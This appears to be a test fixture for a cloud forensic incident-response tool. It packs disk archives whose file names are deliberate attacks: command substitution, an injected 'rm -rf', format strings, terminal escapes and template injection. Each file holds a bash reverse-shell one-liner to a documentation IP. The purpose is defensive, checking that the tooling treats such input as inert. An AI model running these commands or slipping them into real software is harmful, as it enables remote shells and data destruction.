import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { defineStep } from '@cordon/core';
import { collections, forensicInstance } from '@cordon/core/steps';
import { plantTree } from '@cordon/testkit';
import { launch } from '../../src/forensic/launch.js';
import type { ForensicOptions } from '../../src/index.js';

let packed: readonly Buffer[] | undefined;

/** Names that would be a path, a line, a command, a format or an escape if anybody took them for one. */
const HOSTILE = ['a\nb', '$(touch x)', "'; rm -rf .; '", '%s%n', '\u001b[2Jx', '-rf', '"\\', '{{ssm:x}}'];

/** The planted server, and a disk on which every name is an attack, as collections of theirs are packed. */
export function planted(): readonly Buffer[] {
  packed ??= pack();
  return packed;
}

function pack(): readonly Buffer[] {
  const folder = mkdtempSync(join(tmpdir(), 'cordon-given-'));
  try {
    plantTree(join(folder, 'server/fs'));
    const odd = join(folder, 'odd/fs/tmp');
    mkdirSync(odd, { recursive: true });
    for (const name of HOSTILE)
      writeFileSync(join(odd, name), 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n');
    return ['server', 'odd'].map((name) => execFileSync('tar', ['-cz', '-C', join(folder, name), 'fs']));
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

/** Collections in the store, and a forensic instance that SSM reaches, without what takes them in an incident. */
export function givenCollections(options: ForensicOptions, image = options.image) {
  return defineStep({
    id: 'test.given',
    title: 'Gives collections and a forensic instance',
    phase: 'examine',
    provides: [collections, forensicInstance],
    callTimeout: { minutes: 10 },
    actions: { security: ['ec2:RunInstances', 'ec2:CreateTags', 'iam:PassRole', 'ssm:GetParameter'] },
    async start(ctx) {
      const { instanceId, imageId } = await launch(ctx, { ...options, image });
      const artifacts = [];
      for (const [index, body] of planted().entries()) {
        const [path, mediaType] = [`disk/vol-${index}.tar.gz`, 'application/gzip'];
        const told = { path, body, mediaType, acquiredBy: 'forensic-host' as const, origin: `vol-${index}` };
        artifacts.push({ volumeId: `vol-${index}`, artifact: await ctx.evidence.put(told) });
      }
      // Until it has booted and its agent is there.
      await ctx.sleep({ minutes: 5 });
      return ctx.done({ collections: artifacts, forensicInstance: { instanceId, imageId, volumes: [] } });
    },
  });
}
